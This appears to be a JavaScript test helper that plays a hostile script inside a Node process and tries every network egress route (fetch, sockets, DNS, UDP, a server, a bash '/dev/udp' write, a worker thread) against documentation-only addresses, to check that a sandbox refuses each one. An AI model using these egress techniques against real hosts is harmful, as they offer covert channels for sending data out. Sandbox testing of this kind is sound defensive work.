/**
 * A hostile script in a Node process: every way out that one has. It knows nothing outside itself; the addresses are set
 * aside for documentation, and nobody has them.
 * @returns {Promise<Readonly<Record<string, string>>>} the code each was refused with, or that it was open
 */
export async function tryEveryWayOutOfNode() {
  /** @type {Record<string, string>} */
  const outcomes = {}
  const builtin = (/** @type {string} */ name) => /** @type {any} */ (process.getBuiltinModule(name))
  const attempt = async (/** @type {string} */ name, /** @type {() => any} */ act) => {
    try {
      const patience = new Promise((resolve) => setTimeout(() => resolve('open'), 700))
      outcomes[name] = await Promise.race([Promise.resolve(act()).then(() => 'open'), patience])
    } catch (problem) {
      const code = /** @type {{ code?: string }} */ (problem).code ?? String(problem)
      outcomes[name] = code === 'ERR_NO_NETWORK' ? code : `open: ${code}`
    }
  }
  const quiet = (/** @type {any} */ emitter) => emitter.on('error', () => undefined)
  const answered = (/** @type {(done: () => void) => void} */ ask) => new Promise((resolve) => ask(() => resolve(null)))
  const fromShell = 'echo words > /dev/udp/192.0.2.78/9'
  const fromThread = "require('dgram').createSocket('udp4').send('words', 9, '192.0.2.79', () => process.exit())"

  await attempt('fetch', () => fetch('http://192.0.2.1/'))
  await attempt('net.connect', () => quiet(builtin('net').connect(80, '192.0.2.2')))
  await attempt('new net.Socket', () => quiet(new (builtin('net').Socket)()).connect(80, '192.0.2.3'))
  await attempt('new tls.TLSSocket', () => quiet(new (builtin('tls').TLSSocket)()).connect(443, '192.0.2.4'))
  await attempt('new http.ClientRequest', () => quiet(new (builtin('http').ClientRequest)('http://192.0.2.5/')).end())
  await attempt('http2.connect', () => quiet(builtin('http2').connect('http://192.0.2.6')))
  await attempt('dns.lookup', () => answered((done) => builtin('dns').lookup('looked.example', done)))
  await attempt('dns.resolveTxt', () => answered((done) => builtin('dns').resolveTxt('told.example', done)))
  await attempt('new dns.Resolver', () => {
    const resolver = new (builtin('dns').Resolver)()
    resolver.setServers(['192.0.2.53'])
    return answered((done) => resolver.resolve4('resolved.example', done))
  })
  await attempt('new dns.promises.Resolver', () => new (builtin('dns').promises.Resolver)().resolveMx('post.example'))
  await attempt('dgram.createSocket', () =>
    answered((done) => builtin('dgram').createSocket('udp4').send('words', 9, '192.0.2.77', done)),
  )
  await attempt('new dgram.Socket', () =>
    answered((done) => new (builtin('dgram').Socket)('udp4').send('words', 9, '192.0.2.76', done)),
  )
  await attempt('server', () => answered((done) => quiet(builtin('net').createServer()).listen(0, '0.0.0.0', done)))
  await attempt('child process', () =>
    answered((done) => builtin('child_process').execFile('bash', ['-c', fromShell], done)),
  )
  await attempt('thread', () =>
    answered((done) => new (builtin('worker_threads').Worker)(fromThread, { eval: true }).on('exit', done)),
  )
  return outcomes
}
